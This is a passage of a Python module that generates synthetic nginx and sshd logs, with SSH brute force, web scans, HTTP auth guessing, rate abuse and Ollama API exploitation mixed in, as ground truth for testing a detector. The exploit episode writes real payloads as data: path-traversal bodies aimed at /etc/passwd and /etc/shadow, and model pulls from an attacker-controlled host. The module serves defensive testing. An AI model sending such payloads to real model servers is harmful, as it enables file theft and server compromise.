"""Seeded generator of realistic nginx and sshd logs with attacks mixed into normal traffic.

Two ways to use it:

* :func:`generate` writes ``access.log`` (nginx ``combined``), ``error.log`` (nginx
  error log: auth_basic failures, ``limit_req`` rejections and benign noise) and
  ``auth.log`` (sshd and friends in traditional syslog form) in one go, fast enough
  for the million-line benchmarks, and returns the ground truth as a :class:`Manifest`
  (also written to ``manifest.json``).
* :class:`LiveScenario` appends the same kinds of lines in real time (timestamps are
  the clock's *now*) from a writer thread, with one logrotate-style rename+create in
  the middle; ``make demo`` and the latency benchmark use it.

Addresses: attackers come from the documentation ranges (198.51.100.0/24,
203.0.113.0/24, 2001:db8::/32) and, once those run out in big runs, from the shared
address space 100.64.0.0/10. Benign clients are LAN addresses (10.20.0.0/16,
fd00:a1::/64) and admins in 192.0.2.0/24. None of these are ever contacted: they are
only strings in log files.

The output is a pure function of the arguments (same seed, same bytes).
"""

from __future__ import annotations

import enum
import ipaddress
import json
import random
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import asdict, dataclass, field, replace
from pathlib import Path
from typing import IO, Any, Final

from aisentinel.clock import Clock, SystemClock

DEFAULT_START_TS: Final = 1_764_000_000.0
"""2025-11-24 16:00:00 UTC, the same instant :class:`aisentinel.clock.FakeClock` starts at."""

HOSTNAME: Final = "gpu-box-01"
SERVER_NAME: Final = "ai.example.com"
ADMIN_ADDRESS: Final = "192.0.2.11"
"""Fails ssh twice, then logs in: must never be banned."""
OFFICE_ADDRESS: Final = "192.0.2.200"
"""Brute-forces ssh from inside the allowlist: the decision must say *allowlisted*."""
ALLOWLIST: Final = ("192.0.2.192/26",)
"""Networks a demo config should allowlist (the office)."""

ACCESS_LOG: Final = "access.log"
ACCESS_JSON_LOG: Final = "access.json.log"
ERROR_LOG: Final = "error.log"
AUTH_LOG: Final = "auth.log"
MANIFEST: Final = "manifest.json"


class AttackKind(enum.StrEnum):
    """What an attacking address does."""

    SSH_BRUTE_FORCE = "ssh_brute_force"
    SSH_CREDENTIAL_STUFFING = "ssh_credential_stuffing"
    HTTP_AUTH_BRUTE_FORCE = "http_auth_brute_force"
    RATE_ABUSE = "rate_abuse"
    SCAN = "scan"
    AI_RECON = "ai_recon"
    OLLAMA_EXPLOIT = "ollama_exploit"


SSH_KINDS: Final = frozenset({AttackKind.SSH_BRUTE_FORCE, AttackKind.SSH_CREDENTIAL_STUFFING})


@dataclass(frozen=True, slots=True)
class Attack:
    """Ground truth for one attacking address.

    ``attempts`` counts the attack's requests or authentication attempts (not log
    lines). ``allowlisted`` marks the office address: it attacks, but the expected
    decision is "allowlisted", not a ban.
    """

    address: str
    kind: AttackKind
    attempts: int
    first_ts: float
    last_ts: float
    allowlisted: bool = False


@dataclass(frozen=True, slots=True)
class Manifest:
    """What a generated scenario contains; the ground truth for tests and benchmarks."""

    seed: int
    start_ts: float
    end_ts: float
    files: dict[str, str]
    """Role (``access``, ``access_json``, ``error``, ``auth``) -> file name in the output folder."""
    lines: dict[str, int]
    """Role -> number of lines written."""
    attacks: dict[str, Attack]
    """Attacking address -> what it did. One kind per address."""
    benign: tuple[str, ...]
    """Addresses that only behave normally (the admin included); none may be banned."""
    admin: str = ADMIN_ADDRESS
    allowlisted: str = OFFICE_ADDRESS
    allowlist: tuple[str, ...] = ALLOWLIST

    def should_ban(self) -> frozenset[str]:
        """Attacking addresses that are not allowlisted."""
        return frozenset(a for a, atk in self.attacks.items() if not atk.allowlisted)

    def by_kind(self, kind: AttackKind) -> frozenset[str]:
        """Attacking addresses of one kind."""
        return frozenset(a for a, atk in self.attacks.items() if atk.kind is kind)

    def to_json(self) -> str:
        """A stable JSON form (see :meth:`from_json`)."""
        data = asdict(self)
        data["attacks"] = {a: asdict(atk) for a, atk in sorted(self.attacks.items())}
        return json.dumps(data, indent=1, sort_keys=True)

    @classmethod
    def from_json(cls, text: str) -> Manifest:
        """Read back what :meth:`to_json` wrote."""
        data = json.loads(text)
        attacks = {
            a: Attack(
                address=v["address"],
                kind=AttackKind(v["kind"]),
                attempts=int(v["attempts"]),
                first_ts=float(v["first_ts"]),
                last_ts=float(v["last_ts"]),
                allowlisted=bool(v["allowlisted"]),
            )
            for a, v in data["attacks"].items()
        }
        return cls(
            seed=int(data["seed"]),
            start_ts=float(data["start_ts"]),
            end_ts=float(data["end_ts"]),
            files=dict(data["files"]),
            lines={k: int(v) for k, v in data["lines"].items()},
            attacks=attacks,
            benign=tuple(data["benign"]),
            admin=data["admin"],
            allowlisted=data["allowlisted"],
            allowlist=tuple(data["allowlist"]),
        )


# --------------------------------------------------------------------------- timestamps

_MONTHS: Final = (
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
)  # fmt: skip


def fmt_access_ts(sec: int) -> str:
    """``25/Nov/2026:23:14:30 +0000`` (nginx ``$time_local`` on a UTC host)."""
    t = time.gmtime(sec)
    return (
        f"{t.tm_mday:02d}/{_MONTHS[t.tm_mon - 1]}/{t.tm_year}:"
        f"{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d} +0000"
    )


def fmt_error_ts(sec: int) -> str:
    """``2026/11/25 23:14:30`` (nginx error log)."""
    t = time.gmtime(sec)
    return (
        f"{t.tm_year}/{t.tm_mon:02d}/{t.tm_mday:02d} {t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d}"
    )


def fmt_syslog_ts(sec: int) -> str:
    """``Nov  5 23:14:30`` (traditional syslog, day padded with a space)."""
    t = time.gmtime(sec)
    return f"{_MONTHS[t.tm_mon - 1]} {t.tm_mday:2d} {t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d}"


class _TsCache:
    """Formats a timestamp once per second (lines come many to a second)."""

    __slots__ = ("_fmt", "_sec", "_text")

    def __init__(self, fmt: Callable[[int], str]) -> None:
        self._fmt = fmt
        self._sec = -1
        self._text = ""

    def __call__(self, ts: float) -> str:
        sec = int(ts)
        if sec != self._sec:
            self._sec = sec
            self._text = self._fmt(sec)
        return self._text


# --------------------------------------------------------------------------- line records
#
# A planned line is (ts, record). Records are tuples whose shape depends on the file:
#   access: (client, user, method, path, status, bytes, referer, user_agent, body)
#   error:  (text after the timestamp, starting with " [level] pid#tid: ...")
#   auth:   (text after the timestamp, starting with " host program[pid]: ...")

AccessRec = tuple[str, str, str, str, int, int, str, str, str | None]
Planned = tuple[float, Any]


def render_access(ts: str, r: AccessRec) -> str:
    """One nginx ``combined`` line."""
    return f'{r[0]} - {r[1]} [{ts}] "{r[2]} {r[3]} HTTP/1.1" {r[4]} {r[5]} "{r[6]}" "{r[7]}"'


def render_access_json(ts: float, r: AccessRec) -> str:
    """One line of the ``aisentinel`` JSON log format with the opt-in ``request_body``.

    Same keys, order and all-string values as ``log_format aisentinel escape=json`` in
    packaging/nginx/aisentinel-log-format.conf (docs/nginx-log-format.md). Timings are
    made up from the response size, deterministically.
    """
    proxied = r[3].startswith(("/api/", "/v1/"))
    took = 0.002 + (r[5] % 7919) / 400.0 if proxied and r[4] == 200 else 0.001
    obj = {
        "time": f"{ts:.3f}",
        "remote_addr": r[0],
        "xff": "",
        "remote_user": "" if r[1] == "-" else r[1],
        "request_method": r[2],
        "request_uri": r[3],
        "status": str(r[4]),
        "body_bytes_sent": str(r[5]),
        "request_time": f"{took:.3f}",
        "upstream_response_time": f"{max(took - 0.001, 0.0):.3f}" if proxied else "",
        "http_user_agent": r[7],
        "http_referer": "" if r[6] == "-" else r[6],
        "host": SERVER_NAME,
        "key_id": "",
        "request_body": r[8] or "",
    }
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def _rng(seed: float) -> random.Random:
    """The generator's random source: reproducible demo data, never secrets."""
    return random.Random(seed)  # noqa: S311 - reproducibility is the point


# --------------------------------------------------------------------------- addresses


class _Addresses:
    """Hands out attacker addresses, each at most once.

    Documentation ranges first (every eighth an IPv6 address in 2001:db8::/32), then
    random addresses in 100.64.0.0/10.
    """

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        doc = [f"198.51.100.{i}" for i in range(1, 255)] + [f"203.0.113.{i}" for i in range(1, 255)]
        rng.shuffle(doc)
        self._doc = doc
        self._n = 0
        self._seen: set[str] = set()
        self._cgnat = int(ipaddress.IPv4Address("100.64.0.0"))

    def next(self) -> str:
        self._n += 1
        rng = self._rng
        if self._n % 8 == 0:
            addr = f"2001:db8:{rng.randrange(1, 0xFFFF):x}::{rng.randrange(1, 0xFFFF):x}"
        elif self._doc:
            addr = self._doc.pop()
        else:
            addr = str(ipaddress.IPv4Address(self._cgnat + rng.randrange(1, 1 << 22)))
        if addr in self._seen:
            return self.next()
        self._seen.add(addr)
        return addr


@dataclass(frozen=True, slots=True)
class _Client:
    address: str
    user: str
    browser_ua: str
    api_ua: str


_BROWSER_UAS: Final = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
)
_API_UAS: Final = (
    "python-requests/2.31.0",
    "OpenAI/Python 1.54.4",
    "ollama-python/0.4.1 (x86_64 linux) Python/3.11.2",
    "python-httpx/0.27.2",
    "curl/7.88.1",
    "LangChain/0.3 python-httpx/0.27.2",
)
_USERS: Final = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
    "svc-rag", "svc-eval", "ci-bot", "notebook", "mallory-dev", "trent",
)  # fmt: skip


def _benign_addresses(clients: list[_Client]) -> tuple[str, ...]:
    return tuple(sorted({c.address for c in clients} | {a for _, a, _ in _ADMINS}))


def _benign_clients(rng: random.Random, count: int = 40) -> list[_Client]:
    clients = []
    for i in range(count):
        if i % 10 == 9:
            addr = f"fd00:a1::{rng.randrange(0x100, 0xFFFF):x}"
        else:
            addr = f"10.20.{1 + i // 10}.{10 + i * 3 % 240}"
        clients.append(
            _Client(
                address=addr,
                user=_USERS[i % len(_USERS)],
                browser_ua=_BROWSER_UAS[i % len(_BROWSER_UAS)],
                api_ua=_API_UAS[i % len(_API_UAS)],
            )
        )
    return clients


# --------------------------------------------------------------------------- normal traffic

_REF: Final = f"https://{SERVER_NAME}/"
_STATIC: Final = (
    "/_app/immutable/entry/start.Bd3kS9a1.js",
    "/_app/immutable/entry/app.C7xQp2Lm.js",
    "/_app/immutable/chunks/index.CkX2a1b9.js",
    "/_app/immutable/chunks/stores.DfE81kQz.js",
    "/_app/immutable/assets/0.D8fH2kLq.css",
    "/static/favicon.png",
    "/static/splash.png",
    "/manifest.json",
)

# (weight, method, path, status, min bytes, max bytes, authenticated, browser)
_NormalTpl = tuple[int, str, str, int, int, int, bool, bool]
_NORMAL: Final[tuple[_NormalTpl, ...]] = (
    (20, "POST", "/api/chat", 200, 800, 12_000, True, False),
    (12, "POST", "/api/generate", 200, 400, 9_000, True, False),
    (15, "POST", "/v1/chat/completions", 200, 500, 15_000, True, False),
    (3, "POST", "/api/embed", 200, 2_000, 60_000, True, False),
    (4, "GET", "/api/tags", 200, 1_500, 4_000, True, False),
    (2, "GET", "/v1/models", 200, 600, 2_000, True, False),
    (1, "POST", "/api/show", 200, 1_000, 6_000, True, False),
    (1, "POST", "/api/chat", 499, 0, 1, True, False),
    (5, "GET", "/", 200, 7_000, 7_400, False, True),
    *((3, "GET", p, 200, 300, 90_000, False, True) for p in _STATIC),
    (4, "GET", "/_app/immutable/chunks/index.CkX2a1b9.js", 304, 0, 1, False, True),
    (2, "GET", "/ws/socket.io/?EIO=4&transport=polling", 200, 100, 300, False, True),
    (2, "GET", "/favicon.ico", 404, 153, 154, False, True),
    (1, "GET", "/robots.txt", 404, 153, 154, False, True),
)


class _NormalHttp:
    """Makes normal access-log records quickly (tables are built once)."""

    def __init__(self, rng: random.Random, clients: list[_Client]) -> None:
        self._rng = rng
        self._clients = clients
        cum = 0
        self._cum: list[int] = []
        for tpl in _NORMAL:
            cum += tpl[0]
            self._cum.append(cum)

    def records(self, n: int) -> Iterator[AccessRec]:
        rng = self._rng
        rnd = rng.random
        clients = self._clients
        nc = len(clients)
        tpls = rng.choices(_NORMAL, cum_weights=self._cum, k=n)
        for tpl in tpls:
            c = clients[int(rnd() * nc)]
            _, method, path, status, lo, hi, auth, browser = tpl
            yield (
                c.address,
                c.user if auth else "-",
                method,
                path,
                status,
                lo + int(rnd() * (hi - lo)),
                _REF if browser else "-",
                c.browser_ua if browser else c.api_ua,
                None,
            )


def normal_access_records(count: int, *, seed: int = 0) -> list[AccessRec]:
    """``count`` normal access-log records from the benign clients (for load generators).

    Render each with :func:`render_access` and the timestamp of your choice.
    """
    rng = _rng(seed)
    return list(_NormalHttp(rng, _benign_clients(rng)).records(count))


_NGINX_PIDS: Final = (1234, 1235, 1236, 1237)


def _err(rng: random.Random, level: str, msg: str) -> str:
    pid = _NGINX_PIDS[int(rng.random() * 4)]
    return f" [{level}] {pid}#{pid}: *{rng.randrange(1, 900_000)} {msg}"


def _err_tail(client: str, method: str, path: str, extra: str = "") -> str:
    return (
        f', client: {client}, server: {SERVER_NAME}, request: "{method} {path} HTTP/1.1"'
        f'{extra}, host: "{SERVER_NAME}"'
    )


def _normal_error(rng: random.Random, clients: list[_Client]) -> str:
    c = clients[int(rng.random() * len(clients))]
    roll = rng.random()
    if roll < 0.35:
        return _err(
            rng,
            "error",
            "upstream timed out (110: Connection timed out) while reading response header "
            "from upstream"
            + _err_tail(
                c.address,
                "POST",
                "/api/generate",
                ', upstream: "http://127.0.0.1:11434/api/generate"',
            ),
        )
    if roll < 0.6:
        return _err(
            rng,
            "warn",
            "a client request body is buffered to a temporary file "
            f"/var/lib/nginx/body/{rng.randrange(1, 10**9):010d}"
            + _err_tail(c.address, "POST", "/api/chat"),
        )
    if roll < 0.8:
        return _err(
            rng,
            "error",
            'open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file or directory)'
            + _err_tail(c.address, "GET", "/favicon.ico")
            + f', referrer: "{_REF}"',
        )
    if roll < 0.93:
        return _err(
            rng,
            "error",
            "upstream prematurely closed connection while reading upstream"
            + _err_tail(
                c.address, "POST", "/api/chat", ', upstream: "http://127.0.0.1:11434/api/chat"'
            ),
        )
    if roll < 0.999:
        return _err(
            rng,
            "error",
            f"client intended to send too large body: {rng.randrange(10**8, 10**9)} bytes"
            + _err_tail(c.address, "POST", "/api/v1/files/"),
        )
    # A real user mistyping once: one auth failure, never enough to act on.
    return _err(
        rng,
        "error",
        f'user "{c.user}": password mismatch' + _err_tail(c.address, "GET", "/api/tags"),
    )


_ADMINS: Final = (
    ("deploy", "192.0.2.10", 1001),
    ("alice", ADMIN_ADDRESS, 1000),
    ("bob", "192.0.2.12", 1002),
)


def _sshd(pid: int, msg: str) -> str:
    return f" {HOSTNAME} sshd[{pid}]: {msg}"


def _fingerprint(rng: random.Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(alphabet[int(rng.random() * 64)] for _ in range(43))


class _NormalSsh:
    """Normal auth.log blocks: publickey logins, sessions, cron, sudo."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        self._keys = {addr: _fingerprint(rng) for _, addr, _ in _ADMINS}
        self._session = 40

    def block(self, t: float, gap: float) -> list[Planned]:
        """A few related lines starting at ``t``, ``gap`` seconds apart on average."""
        rng = self._rng
        roll = rng.random()
        pid = rng.randrange(2000, 60_000)
        if roll < 0.55:
            return [
                (t, f" {HOSTNAME} CRON[{pid}]: pam_unix(cron:session): session opened for user "
                 "root(uid=0) by (uid=0)"),
                (t + gap, f" {HOSTNAME} CRON[{pid}]: pam_unix(cron:session): session closed for "
                 "user root"),
            ]  # fmt: skip
        user, addr, uid = _ADMINS[int(rng.random() * len(_ADMINS))]
        port = rng.randrange(32_768, 61_000)
        self._session += 1
        sid = self._session
        lines = [
            _sshd(pid, f"Accepted publickey for {user} from {addr} port {port} ssh2: "
                  f"ED25519 SHA256:{self._keys[addr]}"),
            _sshd(pid, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) "
                  "by (uid=0)"),
            f" {HOSTNAME} systemd-logind[612]: New session {sid} of user {user}.",
        ]  # fmt: skip
        if roll < 0.75:
            lines += [
                f" {HOSTNAME} sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
                "COMMAND=/usr/bin/systemctl restart ollama",
                f" {HOSTNAME} sudo: pam_unix(sudo:session): session opened for user root(uid=0) "
                f"by {user}(uid={uid})",
                f" {HOSTNAME} sudo: pam_unix(sudo:session): session closed for user root",
            ]
        lines += [
            _sshd(pid, f"Received disconnect from {addr} port {port}:11: disconnected by user"),
            _sshd(pid, f"Disconnected from user {user} {addr} port {port}"),
            _sshd(pid, f"pam_unix(sshd:session): session closed for user {user}"),
            f" {HOSTNAME} systemd-logind[612]: Session {sid} logged out. Waiting for processes "
            "to exit.",
            f" {HOSTNAME} systemd-logind[612]: Removed session {sid}.",
        ]
        return [(t + i * gap, line) for i, line in enumerate(lines)]


# --------------------------------------------------------------------------- attacks

_SSH_USERS_BRUTE: Final = ("root", "root", "root", "admin", "ubuntu", "user")
_SSH_USERS_STUFF: Final = (
    "admin", "test", "oracle", "postgres", "git", "ubuntu", "user", "guest", "ftpuser",
    "deploy", "jenkins", "hadoop", "pi", "support", "ollama", "ai", "gpu", "jupyter",
    "minecraft", "steam", "es", "docker", "dev", "administrator", "www", "mysql", "nagios",
    "teamspeak", "ts3", "vagrant", "centos", "debian", "student", "demo", "backup", "ansible",
    "odoo", "sammy", "kafka", "zabbix", "tomcat", "redis",
)  # fmt: skip
_VALID_USERS: Final = frozenset({"root", "ubuntu", "deploy", "alice", "bob"})
_SCAN_PATHS: Final = (
    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php", "/pma/index.php", "/myadmin/index.php", "/admin/phpMyAdmin/",
    "/mysqladmin/", "/cgi-bin/luci/;stok=/locale", "/roundcube/", "/webmail/", "/.aws/credentials",
    "/config.json", "/server-status", "/actuator/env", "/.DS_Store", "/vendor/phpunit/phpunit/"
    "src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/owa/auth/logon.aspx",
    "/.vscode/sftp.json", "/api/.env", "/backup.sql", "/wp-content/plugins/wp-file-manager/",
    "/HNAP1/", "/solr/admin/info/system", "/console/", "/login.action", "/xmlrpc.php",
)  # fmt: skip
_SCAN_UAS: Final = (
    "Mozilla/5.0 zgrab/0.x",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "python-requests/2.28.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36",
)
_RECON_PATHS: Final = (
    ("GET", "/api/tags"),
    ("GET", "/api/ps"),
    ("GET", "/api/version"),
    ("GET", "/v1/models"),
    ("POST", "/api/show"),
    ("GET", "/api/tags"),
)
_HTTP_AUTH_USERS: Final = ("admin", "root", "user", "ollama", "test", "api", "guest", "webui")


@dataclass(slots=True)
class _Episode:
    """Lines one attacker adds, per file, and its ground truth."""

    attack: Attack
    benign: bool = False
    """True for the admin's typos: lines that look like an attack but are not one."""
    access: list[Planned] = field(default_factory=list)
    error: list[Planned] = field(default_factory=list)
    auth: list[Planned] = field(default_factory=list)


def _ssh_attempt(pid: int, addr: str, user: str, port: int, t: float) -> list[Planned]:
    """One failed password attempt as sshd on Debian 12 logs it."""
    if user in _VALID_USERS:
        return [
            (t, _sshd(pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
                      f"tty=ssh ruser= rhost={addr}  user={user}")),
            (t + 2, _sshd(pid, f"Failed password for {user} from {addr} port {port} ssh2")),
        ]  # fmt: skip
    return [
        (t, _sshd(pid, f"Invalid user {user} from {addr} port {port}")),
        (t + 0.5, _sshd(pid, "pam_unix(sshd:auth): check pass; user unknown")),
        (t + 0.5, _sshd(pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                        f"euid=0 tty=ssh ruser= rhost={addr} ")),
        (t + 2, _sshd(pid, f"Failed password for invalid user {user} from {addr} port {port} "
                      "ssh2")),
    ]  # fmt: skip


def _ssh_close(pid: int, addr: str, user: str, port: int, t: float) -> Planned:
    who = "authenticating user" if user in _VALID_USERS else "invalid user"
    return (t, _sshd(pid, f"Connection closed by {who} {user} {addr} port {port} [preauth]"))


def _ep_ssh_brute(
    rng: random.Random, addr: str, t0: float, pace: float, attempts: int | None = None
) -> _Episode:
    n = attempts if attempts is not None else rng.randint(6, 30)
    user = _SSH_USERS_BRUTE[int(rng.random() * len(_SSH_USERS_BRUTE))]
    out: list[Planned] = []
    t = t0
    done = 0
    while done < n:
        # One connection tries up to three passwords (MaxAuthTries defaults to 6).
        pid = rng.randrange(2000, 60_000)
        port = rng.randrange(32_768, 61_000)
        per_conn = min(n - done, rng.randint(1, 3))
        for _ in range(per_conn):
            out += _ssh_attempt(pid, addr, user, port, t)
            t += pace * (2.0 + rng.random() * 2.0)
        done += per_conn
        if rng.random() < 0.5:
            out.append(_ssh_close(pid, addr, user, port, t))
        else:
            out.append((t, _sshd(pid, f"Received disconnect from {addr} port {port}:11: "
                                 "Bye Bye [preauth]")))  # fmt: skip
        t += pace * rng.random()
    attack = Attack(addr, AttackKind.SSH_BRUTE_FORCE, n, t0, out[-1][0])
    return _Episode(attack, auth=out)


def _ep_ssh_stuffing(rng: random.Random, addr: str, t0: float, pace: float) -> _Episode:
    n = rng.randint(10, 40)
    users = rng.sample(_SSH_USERS_STUFF, min(n, len(_SSH_USERS_STUFF)))
    out: list[Planned] = []
    t = t0
    for i in range(n):
        user = users[i % len(users)]
        pid = rng.randrange(2000, 60_000)
        port = rng.randrange(32_768, 61_000)
        out += _ssh_attempt(pid, addr, user, port, t)
        out.append(_ssh_close(pid, addr, user, port, t + 2.5))
        t += pace * (1.0 + rng.random() * 2.0)
    attack = Attack(addr, AttackKind.SSH_CREDENTIAL_STUFFING, n, t0, out[-1][0])
    return _Episode(attack, auth=out)


def _ep_admin(t0: float) -> _Episode:
    """The admin mistypes twice, then gets in: must not be banned."""
    addr, pid, port = ADMIN_ADDRESS, 4242, 51_234
    out: list[Planned] = []
    for i in range(2):
        out += [
            (t0 + 5 * i, _sshd(pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                               f"euid=0 tty=ssh ruser= rhost={addr}  user=alice")),
            (t0 + 5 * i + 2, _sshd(pid, f"Failed password for alice from {addr} port {port} ssh2")),
        ]  # fmt: skip
    out += [
        (t0 + 12, _sshd(pid, f"Accepted password for alice from {addr} port {port} ssh2")),
        (t0 + 12, _sshd(pid, "pam_unix(sshd:session): session opened for user alice(uid=1000) "
                        "by (uid=0)")),
    ]  # fmt: skip
    return _Episode(Attack(addr, AttackKind.SSH_BRUTE_FORCE, 2, t0, t0 + 12), benign=True, auth=out)


def _acc(
    addr: str, user: str, request: tuple[str, str], reply: tuple[int, int], ua: str,
    *, body: str | None = None,
) -> AccessRec:  # fmt: skip
    """An access record from attack traffic (no referer)."""
    return (addr, user, request[0], request[1], reply[0], reply[1], "-", ua, body)


def _ep_scan(rng: random.Random, addr: str, t0: float, pace: float) -> _Episode:
    n = rng.randint(15, 60)
    ua = _SCAN_UAS[int(rng.random() * len(_SCAN_UAS))]
    out: list[Planned] = []
    t = t0
    for i in range(n):
        path = _SCAN_PATHS[(i + int(rng.random() * 3)) % len(_SCAN_PATHS)]
        status = 404 if rng.random() < 0.92 else 403
        out.append((t, _acc(addr, "-", ("GET", path), (status, 153 if status == 404 else 146), ua)))
        t += pace * rng.random() * 0.6
    return _Episode(Attack(addr, AttackKind.SCAN, n, t0, t), access=out)


def _ep_recon(rng: random.Random, addr: str, t0: float, pace: float) -> _Episode:
    # At least five requests: on an exposed server (all 200) recon is a sweep of five
    # distinct endpoints (ai_recon's sweep_paths), not a few successful model lists.
    n = rng.randint(5, 12)
    exposed = rng.random() < 0.5
    ua = _SCAN_UAS[int(rng.random() * len(_SCAN_UAS))]
    out: list[Planned] = []
    t = t0
    for i in range(n):
        method, path = _RECON_PATHS[i % len(_RECON_PATHS)]
        status, size = (200, 300 + int(rng.random() * 3000)) if exposed else (401, 179)
        out.append((t, _acc(addr, "-", (method, path), (status, size), ua)))
        t += pace * (0.2 + rng.random())
    return _Episode(Attack(addr, AttackKind.AI_RECON, n, t0, t), access=out)


def _ep_exploit(rng: random.Random, addr: str, t0: float, pace: float) -> _Episode:
    """Ollama model-server abuse: pull/create/blob uploads, incl. the CVE-2024-37032 pattern."""
    n = rng.randint(3, 10)
    ua = "Go-http-client/1.1" if rng.random() < 0.5 else "python-requests/2.32.3"
    evil = f"http://{addr}:8000/library/llama3:latest"
    requests = (
        ("POST", "/api/pull", '{"name":"' + evil + '","insecure":true}'),
        ("POST", "/api/pull", '{"model":"' + evil + '/../../../../etc/passwd"}'),
        ("POST", "/api/create",
         '{"name":"x","modelfile":"FROM /root/.ollama/models/blobs/sha256-../../../etc/shadow"}'),
        ("POST", f"/api/blobs/sha256:{rng.getrandbits(256):064x}", None),
        ("HEAD", f"/api/blobs/sha256:{rng.getrandbits(256):064x}", None),
        ("POST", "/api/push", '{"name":"' + evil + '","insecure":true}'),
        ("DELETE", "/api/delete", '{"name":"llama3:latest"}'),
    )  # fmt: skip
    out: list[Planned] = []
    t = t0
    for i in range(n):
        method, path, body = requests[i % len(requests)]
        status = (401, 404, 400, 200)[int(rng.random() * 4)]
        reply = (status, 0 if status == 200 else 179)
        out.append((t, _acc(addr, "-", (method, path), reply, ua, body=body)))
        t += pace * (0.5 + rng.random() * 2)
    return _Episode(Attack(addr, AttackKind.OLLAMA_EXPLOIT, n, t0, t), access=out)


def _ep_http_auth(rng: random.Random, addr: str, t0: float, pace: float) -> _Episode:
    n = rng.randint(6, 40)
    ua = _API_UAS[int(rng.random() * 2)]
    path = ("/api/tags", "/", "/v1/models")[int(rng.random() * 3)]
    access: list[Planned] = []
    error: list[Planned] = []
    t = t0
    for i in range(n):
        user = _HTTP_AUTH_USERS[(i + int(rng.random() * 2)) % len(_HTTP_AUTH_USERS)]
        if user in {"admin", "ollama", "api"}:
            why = f'user "{user}": password mismatch'
        else:
            why = f'user "{user}" was not found in "/etc/nginx/.htpasswd"'
        error.append((t, _err(rng, "error", why + _err_tail(addr, "GET", path))))
        access.append((t, _acc(addr, user, ("GET", path), (401, 179), ua)))
        t += pace * (0.3 + rng.random() * 1.5)
    return _Episode(
        Attack(addr, AttackKind.HTTP_AUTH_BRUTE_FORCE, n, t0, t), access=access, error=error
    )


def _ep_rate_abuse(
    rng: random.Random, addr: str, t0: float, pace: float, n: int | None = None
) -> _Episode:
    """Hundreds of /api/generate a minute; ``limit_req`` rejects the excess with 429."""
    n = n if n is not None else rng.randint(200, 900)
    per_min = rng.randint(300, 700)
    gap = 60.0 / per_min * min(pace, 1.0)
    ua = _API_UAS[int(rng.random() * len(_API_UAS))]
    user = "svc-batch" if rng.random() < 0.5 else "-"
    access: list[Planned] = []
    error: list[Planned] = []
    t = t0
    excess = 0.0
    for i in range(n):
        if i > 20 and rng.random() < 0.6:
            excess = min(excess + 0.7, 40.0)
            error.append((t, _err(
                rng, "error",
                f'limiting requests, excess: {excess:.3f} by zone "ai"'
                + _err_tail(addr, "POST", "/api/generate"),
            )))  # fmt: skip
            access.append((t, _acc(addr, user, ("POST", "/api/generate"), (429, 169), ua)))
        else:
            excess = max(excess - 0.3, 0.0)
            size = 400 + int(rng.random() * 4000)
            access.append((t, _acc(addr, user, ("POST", "/api/generate"), (200, size), ua)))
        t += gap * (0.5 + rng.random())
    return _Episode(Attack(addr, AttackKind.RATE_ABUSE, n, t0, t), access=access, error=error)


_EpisodeMaker = Callable[[random.Random, str, float, float], _Episode]
_HTTP_MAKERS: Final[tuple[tuple[float, _EpisodeMaker], ...]] = (
    (0.34, _ep_scan),
    (0.20, _ep_recon),
    (0.10, _ep_exploit),
    (0.26, _ep_http_auth),
    (0.10, _ep_rate_abuse),
)
_SSH_MAKERS: Final[tuple[tuple[float, _EpisodeMaker], ...]] = (
    (0.6, _ep_ssh_brute),
    (0.4, _ep_ssh_stuffing),
)


def _pick(rng: random.Random, makers: tuple[tuple[float, _EpisodeMaker], ...]) -> _EpisodeMaker:
    roll = rng.random()
    for weight, maker in makers:
        roll -= weight
        if roll < 0:
            return maker
    return makers[-1][1]


# --------------------------------------------------------------------------- batch


def _write_stream(
    outputs: list[tuple[Path, Callable[[float, Any], str]]],
    n_total: int,
    attack_lines: list[Planned],
    normal: Callable[[float], list[Planned]],
    *,
    start_ts: float,
    span: float,
    head: Iterable[Planned] = (),
) -> int:
    """Write ``n_total`` lines: attacks merged by time into normal traffic.

    The same records go to every output, each rendered its own way. Returns the
    number of lines written to each output.
    """
    attack_lines.sort(key=lambda p: p[0])
    planned = list(head)
    n_normal = max(0, n_total - len(attack_lines) - len(planned))
    gap = span / max(n_normal, 1)
    written = 0
    handles = [path.open("w", encoding="utf-8", newline="\n") for path, _ in outputs]
    renders = [render for _, render in outputs]

    def flush() -> None:
        nonlocal written
        if not planned:
            return
        for fh, render in zip(handles, renders, strict=True):
            fh.write("\n".join([render(ts, rec) for ts, rec in planned]))
            fh.write("\n")
        written += len(planned)
        planned.clear()

    try:
        ai = 0
        na = len(attack_lines)
        made = 0
        t = start_ts
        while made < n_normal:
            block = normal(t)
            for p in block:
